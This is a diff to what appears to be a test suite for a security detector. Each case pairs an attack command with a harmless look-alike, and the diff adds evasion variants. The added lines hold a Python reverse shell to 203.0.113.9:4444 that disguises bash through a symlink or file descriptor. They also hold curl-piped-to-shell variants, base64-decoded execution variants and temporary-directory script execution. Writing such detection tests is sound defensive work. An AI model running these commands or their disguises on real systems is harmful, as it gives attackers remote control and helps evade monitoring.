@@ -14,6 +14,15 @@ for number in range(3):
 os.execv("/bin/sh", ["sh"])'
 """
 
+# By a link or a descriptor: the shell is called neither sh nor bash.
+DISGUISED = """python3 - <<'END'
+import os, socket, subprocess
+peer = socket.create_connection(("203.0.113.9", 4444))
+{}
+subprocess.run([run, "-c", "id"], stdin=peer, stdout=peer, close_fds=False)
+END
+"""
+
 # A program of the database's user is run by the server itself: no shell of ours is between.
 POSTGRES = """
 cd /var/lib/postgresql
@@ -24,7 +33,10 @@ END
 """
 
 PROOFS = [
-    Proof("Reverse shell", attack=REVERSE_SHELL, look_alike="echo id | sh; sh </dev/null"),
+    Proof("Reverse shell", attack=REVERSE_SHELL,
+          others=(DISGUISED.format("os.symlink('/bin/bash', '/srv/worker'); run = '/srv/worker'"),
+                  DISGUISED.format("fd = os.open('/bin/bash', os.O_RDONLY); os.set_inheritable(fd, True); run = f'/proc/self/fd/{fd}'")),
+          look_alike="echo id | sh; sh </dev/null"),
 
     Proof("Connection made a standard stream", attack=REVERSE_SHELL, look_alike=Python("""
 import os, socket
@@ -44,15 +56,21 @@ os.dup2(accepted.fileno(), 0)
     Proof("Server program started a tool", attack=POSTGRES.format("exec id"), look_alike="nginx -t"),
 
     Proof("Download piped into a shell", attack="sh -c 'curl -s http://203.0.113.9/script | sh'",
+          others=("bash -c 'bash <(curl -s http://203.0.113.9/script)'", "sh -c 'eval \"$(curl -s http://203.0.113.9/script)\"'",
+                  "sh -c 'curl -s http://203.0.113.9/script | /usr/bin/env bash'", "sh -c 'curl -s http://203.0.113.9/script |\nsh\n'"),
           look_alike="sh -c 'curl -fsS http://203.0.113.9/script | grep id'"),
 
     Proof("Encoded command decoded and run", attack="sh -c 'echo aWQK | base64 -d | sh'",
-          others=("""python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))'""",),
+          others=("""python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))'""", "bash -c 'sh <(echo aWQK | base64 -d)'",
+                  "bash -c 'eval $(echo aWQK | base64 --decode)'", "sh -c 'echo aWQK | busybox base64 -di | busybox sh'",
+                  "sh -c 'echo aWQK |\nbase64 -d | sh\n'"),
           look_alike="sh -c 'echo aWQK | base64 -d >/srv/ca.pem'"),
 
     Proof("Break-out tool run in a container", attack="capsh --print >/dev/null", look_alike="lsns >/dev/null"),
 
     Proof("Script in a temporary directory run", attack="echo 'print(1)' >/tmp/x.py; python3 /tmp/x.py",
+          others=("echo id >/tmp/y; cd /tmp; sh y", "echo id >/tmp/y; sh </tmp/y", "echo id >/tmp/y; sh -e /tmp/y",
+                  "printf '#!/bin/sh\\nid\\n' >/tmp/z; chmod +x /tmp/z; /tmp/z"),
           look_alike="echo 'print(1)' >/srv/x.py; python3 /srv/x.py"),
 
     # script(1) gives what it runs a terminal.
